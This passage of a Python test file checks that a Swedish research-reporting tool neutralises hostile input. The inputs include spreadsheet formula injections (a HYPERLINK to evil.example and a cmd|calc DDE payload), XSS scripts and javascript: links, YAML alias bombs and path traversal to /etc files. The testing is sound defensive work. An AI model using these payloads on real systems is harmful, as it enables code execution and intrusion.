    path = write_csv(tmp_path / "by_unit.csv", [["enhet", "antal", "antal"], ["A", "5", "7"]])
    assert check_table(path, schema) == ["by_unit.csv: duplicate column name(s) antal"]
    good = write_csv(tmp_path / "ok.csv", [["enhet", "antal"], ["A", "5"]])
    assert check_table(good, schema) == []


def _tables_are_neutralised(run_dir: Path) -> list[list[str]]:
    """Every cell of tables/*.csv: formula-leading text starts with ', numbers are numbers."""
    cells = []
    for table in sorted((run_dir / "tables").glob("*.csv")):
        for row in csv.reader(table.read_text(encoding="utf-8").splitlines()):
            for cell in row:
                cells.append(cell)
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(cell.replace(",", "."))
                    except ValueError:
                        pytest.fail(f"{table.name}: formula cell {cell!r} not neutralised")
    return cells


class _ActiveContent(HTMLParser):
    """What a browser would run or follow: script bodies, event-handler attributes and the
    URLs of links, images, forms and frames (text that merely shows ``<script>`` is not)."""

    URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction", "srcdoc", "data"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[tuple[str, str]] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, f"{name}={value}"))
            elif name in self.URL_ATTRIBUTES and value is not None:
                self.urls.append((tag, "".join(value.split()).lower()))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts[-1] += data


def _briefing_is_inert(run_dir: Path) -> str:
    """No script from data, no event handler, no javascript:/vbscript: URL, and data: URLs
    only for the briefing's own embedded images."""
    html = (run_dir / "briefing.html").read_text(encoding="utf-8")
    found = _ActiveContent()
    found.feed(html)
    for body in found.scripts:
        assert "xss" not in body and "alert(" not in body, body[:200]
    assert not [h for h in found.handlers if "alert" in h[1]], found.handlers
    for tag, url in found.urls:
        assert not url.startswith(("javascript:", "vbscript:")), (tag, url[:80])
        assert not url.startswith("data:") or url.startswith("data:image/"), (tag, url[:80])
    assert "Traceback" not in html
    return html


def _run(notebook: str, overrides: dict, **kwargs):
    from research.runs import run_notebook

    return run_notebook(ROOT / "notebooks" / f"{notebook}.ipynb",
                        [ROOT / "parameters" / notebook / "default.yaml"], overrides,
                        publish=False, timeout=600, **kwargs)


def _cli(*arguments: str, reports: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, RESEARCH_REPORTS_DIR=str(reports), RESEARCH_PROJECT_ROOT=str(ROOT),
               PYTHONWARNINGS="default")
    env.pop("RESEARCH_RUN_DIR", None)
    return subprocess.run([str(RESEARCH), *arguments], capture_output=True, text=True,
                          env=env, cwd=ROOT, timeout=600)


def _assert_clean_failure(done: subprocess.CompletedProcess, *expected: str) -> None:
    assert done.returncode in (1, 2), done.stderr
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr, done.stderr
    for text in expected:
        assert text in done.stderr, done.stderr


@pytest.mark.e2e
def test_omvarld_feed_with_formulas_scripts_and_javascript_links(tmp_path: Path) -> None:
    items = []
    for number, title in enumerate(PAYLOADS + [SCRIPT + " Skola i Älvstad"], start=1):
        items.append(
            f"<item><title><![CDATA[{title}]]></title>"
            f"<link>{'javascript:alert(1)' if number % 2 else f'https://x.example/{number}'}</link>"
            f"<description><![CDATA[Radikalisering bland unga {SCRIPT}"
            f"<a href=\"javascript:alert(2)\">Läs</a><img src=x onerror=alert(3)>]]>"
            f"</description><pubDate>Fri, 20 Nov 2026 1{number}:00:00 +0000</pubDate>"
            f"<guid>hostile-{number}</guid></item>")
    feed = tmp_path / "fientlig.xml"
    feed.write_text("<?xml version=\"1.0\" encoding=\"utf-8\"?><rss version=\"2.0\"><channel>"
                    "<title>Fientlig</title><link>https://x.example/</link>"
                    + "".join(items) + "</channel></rss>", encoding="utf-8")
    sources = tmp_path / "sources.yaml"
    sources.write_text(
        "- name: \"+cmd|' /C calc'!A0\"\n  kind: feed\n"
        f"  location: {feed}\n  category: \"=HYPERLINK(\\\"http://evil.example\\\")\"\n"
        "- name: Älvstads Tidning\n  kind: feed\n"
        f"  location: {SAMPLE / 'omvarld' / 'feeds' / 'alvstads_tidning.xml'}\n"
        "  category: media\n", encoding="utf-8")
    before = digests([feed, sources])
    result = _run("omvarldsbevakning", {"sources": str(sources),
                                        "archive": str(tmp_path / "arkiv.sqlite")})
    assert result.succeeded, result.error
    cells = _tables_are_neutralised(result.run_dir)
    assert "'" + PAYLOADS[0] in cells and "'+cmd|' /C calc'!A0" in cells
    _briefing_is_inert(result.run_dir)
    assert digests([feed, sources]) == before


@pytest.mark.e2e
def test_metodutvardering_study_names_with_formulas_and_scripts(tmp_path: Path) -> None:
    rows = sample_rows(SAMPLE / "metod" / "utvarderingar.csv")
    header = rows[0]
    study, comment = header.index("study"), header.index("comment")
    for row, payload in zip(rows[1:], PAYLOADS + [SCRIPT]):
        row[study] = payload
        row[comment] = SCRIPT
    path = write_csv(tmp_path / "utvarderingar.csv", rows)
    before = digest(path)
    result = _run("metodutvardering", {"evaluations": str(path)})
    assert result.succeeded, result.error
    cells = _tables_are_neutralised(result.run_dir)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    _briefing_is_inert(result.run_dir)
    assert digest(path) == before


@pytest.mark.e2e
def test_litteratur_formulas_scripts_and_broken_exports_beside_good_ones(tmp_path: Path) -> None:
    ris = (SAMPLE / "litteratur" / "scopus.ris").read_text(encoding="utf-8")
    titles = iter(PAYLOADS + [SCRIPT + " Trust in police"])
    ris = re.sub(r"^T1  - .*$", lambda m: f"T1  - {next(titles, m.group(0)[6:])}", ris,
                 flags=re.M)
    ris = re.sub(r"^T2  - .*$", "T2  - @SUM(1+1)*cmd|' /C calc'!A0", ris, count=3, flags=re.M)
    ris = ris.replace("N2  - ", f"UR  - javascript:alert(1)\nN2  - {SCRIPT} ", 5)
    exports = tmp_path / "scopus.ris"
    exports.write_text(ris, encoding="utf-8")
    html_page = tmp_path / "webofscience_sida.ris"
    html_page.write_text(HTML_PAGE, encoding="utf-8")
    zero_hits = tmp_path / "diva_noll.csv"
    write_csv(zero_hits, sample_rows(SAMPLE / "litteratur" / "diva.csv")[:1])  # header only
    broken = truncated_xlsx(tmp_path / "swepub.xlsx")
    log = tmp_path / "screening_log.csv"
    shutil.copyfile(SAMPLE / "litteratur" / "screening_log.csv", log)
    inputs = [exports, html_page, zero_hits, broken]
    before = digests(inputs)
    result = _run("litteraturanalys", {
        "records": [str(p) for p in inputs] + [str(SAMPLE / "litteratur" / "webofscience.bib")],
        "screening_log": str(log), "dedup_log": ""})
    assert result.succeeded, result.error
    cells = _tables_are_neutralised(result.run_dir)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    html = _briefing_is_inert(result.run_dir)
    for name in ("webofscience_sida.ris", "diva_noll.csv", "swepub.xlsx"):
        assert name in html  # each skip is reported in the briefing's file table
    assert digests(inputs) == before


@pytest.mark.e2e
def test_lagesbild_unit_names_with_formulas_in_a_custom_schema(tmp_path: Path) -> None:
    from research.situation.readers import default_schema_path

    payload = "=HYPERLINK(\"http://evil.example\")"
    schema = tmp_path / "schema.yaml"
    schema.write_text(default_schema_path().read_text(encoding="utf-8").replace(
        "      - Socialtjänsten\n", f"      - '{payload}'\n", 1), encoding="utf-8")
    rows = sample_rows(SAMPLE / "lagesbild" / "rapporter.csv")
    for row in rows[1:]:
        row[:] = [payload if cell == "Socialtjänsten" else cell for cell in row]
        row[-1] = SCRIPT if row[-1] else row[-1]
    path = write_csv(tmp_path / "rapporter.csv", rows)
    before = digests([schema, path])
    result = _run("lagesbild", {"reports": str(path), "schema": str(schema)})
    assert result.succeeded, result.error
    cells = _tables_are_neutralised(result.run_dir)
    assert "'" + payload in cells
    html = _briefing_is_inert(result.run_dir)
    assert "xss-hostile" not in html  # free text is never shown
    assert digests([schema, path]) == before


@pytest.mark.e2e
def test_enkat_codebook_labels_with_formulas_and_free_text_scripts(tmp_path: Path) -> None:
    codebook = tmp_path / "kodbok.yaml"
    codebook.write_text((SAMPLE / "enkat" / "kodbok.yaml").read_text(encoding="utf-8").replace(
        "1: Utbildningsförvaltningen", "1: '=HYPERLINK(\"http://evil.example\")'", 1),
        encoding="utf-8")
    rows = sample_rows(SAMPLE / "enkat" / "enkat.csv", encoding="cp1252", delimiter=";")
    text = rows[0].index("fritext_behov")
    for row in rows[1:40]:
        row[text] = f"{SCRIPT} <a href=\"javascript:alert(1)\">mer</a> extremism på nätet"
    data = write_csv(tmp_path / "enkat.csv", rows, encoding="cp1252", delimiter=";")
    before = digests([codebook, data])
    result = _run("enkatanalys", {"data": str(data), "codebook": str(codebook)})
    assert result.succeeded, result.error
    cells = _tables_are_neutralised(result.run_dir)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    _briefing_is_inert(result.run_dir)
    assert digests([codebook, data]) == before


@pytest.mark.e2e
@pytest.mark.parametrize("notebook, parameter, top", [
    ("omvarldsbevakning", "sources", "list"), ("enkatanalys", "codebook", "mapping"),
    ("metodutvardering", "register", "mapping"), ("lagesbild", "schema", "mapping")])
def test_alias_bomb_run_fails_fast_naming_file_and_parameter(notebook: str, parameter: str,
                                                             top: str, tmp_path: Path) -> None:
    bomb = tmp_path / f"{parameter}.yaml"
    bomb.write_text(alias_bomb(top=top), encoding="utf-8")
    reports = tmp_path / "reports"
    done = _cli("run", notebook, "-f", f"parameters/{notebook}/default.yaml",
                "-p", parameter, str(bomb), "--run-id", "bomb", reports=reports)
    _assert_clean_failure(done, str(bomb), "refused", "aliases")
    manifest = json.loads((reports / "runs" / notebook / "bomb" / "manifest.json").read_text())
    assert manifest["status"] == "failed"
    assert bomb.read_text(encoding="utf-8") == alias_bomb(top=top)
    index = reports / "site" / "index.html"
    assert not index.exists() or "bomb" not in index.read_text(encoding="utf-8")


@pytest.mark.e2e
def test_alias_bombs_in_parameter_files_and_overrides_exit_2_before_any_run(
        tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(alias_bomb(), encoding="utf-8")
    reports = tmp_path / "reports"
    done = _cli("run", "mall", "-f", str(bomb), "--no-publish", reports=reports)
    _assert_clean_failure(done, f"Parameter file {bomb} is refused", "aliases")
    assert done.returncode == 2
    override = "[" + ", ".join(["&a0 [x, x, x, x, x, x, x, x, x]"] + [
        f"&a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]) + "]"
    done = _cli("run", "enkatanalys", "-p", "cluster", override, "--no-publish",
                reports=reports)
    _assert_clean_failure(done, "Value of -p cluster is refused")
    assert done.returncode == 2
    assert not (reports / "runs").exists()  # refused before a run directory was made


@pytest.mark.e2e
def test_mall_failures_through_the_console_script(tmp_path: Path) -> None:
    """Duplicate columns (one of them a script), bad dates: exit code, a message naming
    file, row and column, no traceback (also not at exit), input unchanged, an inert
    failure briefing, and nothing published."""
    reports = tmp_path / "reports"
    cases = {
        "dubbla.csv": ([MALL_HEADER + [SCRIPT, SCRIPT], ["2026-01-05", "utbildning", "Skola",
                                                         "1", "2", "3"]],
                       ["duplicate column name(s) \"<script>", "dubbla.csv"]),
        "datum.csv": ([MALL_HEADER, ["03/04/2025", "utbildning", "Skola", "3"], *MALL_ROWS,
                       ["2026-02-30", "utbildning", "Skola", "3"]],
                      ["rows 2, 6, column 'datum'", "'03/04/2025'", "not a date"]),
    }
    for number, (name, (rows, expected)) in enumerate(cases.items()):
        path = write_csv(tmp_path / name, rows)
        before = digest(path)
        done = _cli("run", "mall", "-f", "parameters/mall/default.yaml", "-p", "data",
                    str(path), "--run-id", f"fel-{number}", reports=reports)
        _assert_clean_failure(done, *expected)
        assert digest(path) == before
        run_dir = reports / "runs" / "mall" / f"fel-{number}"
        assert json.loads((run_dir / "manifest.json").read_text())["status"] == "failed"
        _briefing_is_inert(run_dir)
    index = reports / "site" / "index.html"
    assert index.is_file()  # the catalogue was rebuilt after the failed runs ...
    site = "".join(p.read_text(encoding="utf-8", errors="replace")
                   for p in (reports / "site").rglob("*") if p.is_file())
    assert "fel-0" not in site and "fel-1" not in site  # ... without them


@pytest.mark.e2e
def test_mall_cp1252_log_with_formulas_runs_and_publishes_inert_tables(tmp_path: Path) -> None:
    rows = [MALL_HEADER] + [[f"2026-0{month}-1{day}", activity, group, str(3 + day)]
                            for month in range(1, 10) for day, (activity, group) in enumerate([
                                ("utbildning", PAYLOADS[0]), ("konsultation", "Socialtjänsten"),
                                ("dialogmote", SCRIPT), ("anhorigstod", PAYLOADS[1])])]
    path = write_csv(tmp_path / "aktiviteter.csv", rows, encoding="cp1252", delimiter=";")
    before = digest(path)
    result = _run("mall", {"data": str(path)})
    assert result.succeeded, result.error
    _tables_are_neutralised(result.run_dir)
    html = _briefing_is_inert(result.run_dir)
    assert "36" in html  # 36 activities read from the cp1252 file
    assert digest(path) == before
    inputs = {Path(i["path"]).name: i for i in result.manifest["inputs"]}
    assert inputs["aktiviteter.csv"]["sha256"] == before
    assert not inputs["aktiviteter.csv"].get("changed_by_run")


@pytest.mark.e2e
def test_yaml_file_just_over_the_size_limit_fails_naming_the_limit(tmp_path: Path) -> None:
    from research.io.files import YAML_LIMITS

    sources = tmp_path / "sources.yaml"
    head = (SAMPLE / "omvarld" / "sources.yaml").read_text(encoding="utf-8")
    sources.write_text(head + "#" * (YAML_LIMITS["max_chars"] + 1 - len(head) - 1) + "\n",
                       encoding="utf-8")
    assert len(sources.read_text(encoding="utf-8")) == YAML_LIMITS["max_chars"] + 1
    done = _cli("run", "omvarldsbevakning", "-f", "parameters/omvarldsbevakning/default.yaml",
                "-p", "sources", str(sources), "--no-publish", "--run-id", "stor",
                reports=tmp_path / "reports")
    _assert_clean_failure(done, str(sources), "5,000,001 characters",
                          "more than the limit of 5,000,000")


@pytest.mark.e2e
def test_path_traversal_in_parameters(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    done = _cli("run", "mall", "--run-id", "../../../tmp/hostile-escape", "--no-publish",
                reports=reports)
    _assert_clean_failure(done, "Invalid run id", "no slashes")
    assert not Path("/tmp/hostile-escape").exists() and not reports.exists()
    done = _cli("run", "mall", "--label", "../../x", "-p", "data",
                "../../../../../../etc/hostname", "--no-publish", reports=reports)
    _assert_clean_failure(done, "/etc/hostname: unsupported file type")
    runs = list((reports / "runs" / "mall").iterdir())
    assert len(runs) == 1 and "/" not in runs[0].name  # the label cannot leave the folder
    assert all(p.resolve().is_relative_to(reports.resolve()) for p in reports.rglob("*"))
    done = _cli("run", "/etc/passwd", "--no-publish", reports=reports)
    _assert_clean_failure(done, "Cannot read notebook /etc/passwd")


@pytest.mark.parametrize("planted, active", [
    ("<p>&lt;script&gt;alert('xss')&lt;/script&gt; &lt;a href=\"javascript:x\"&gt;</p>", False),
    ("<svg><image xlink:href=\"data:image/png;base64,AAAA\"/></svg>", False),
    ("<script>alert('xss')</script>", True),
    ("<a href=\" JavaScript:alert(1)\">x</a>", True),
    ("<img src=x onerror=\"alert(1)\">", True),
    ("<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>", True),
])
def test_the_inertness_check_finds_active_content(planted: str, active: bool,
                                                  tmp_path: Path) -> None:
    """The checker used on every briefing above, on planted content (it must not pass
    everything, nor fail on escaped text and our own embedded images)."""
    (tmp_path / "briefing.html").write_text(f"<html><body>{planted}</body></html>")
    if active:
        with pytest.raises(AssertionError):
            _briefing_is_inert(tmp_path)
    else:
        _briefing_is_inert(tmp_path)
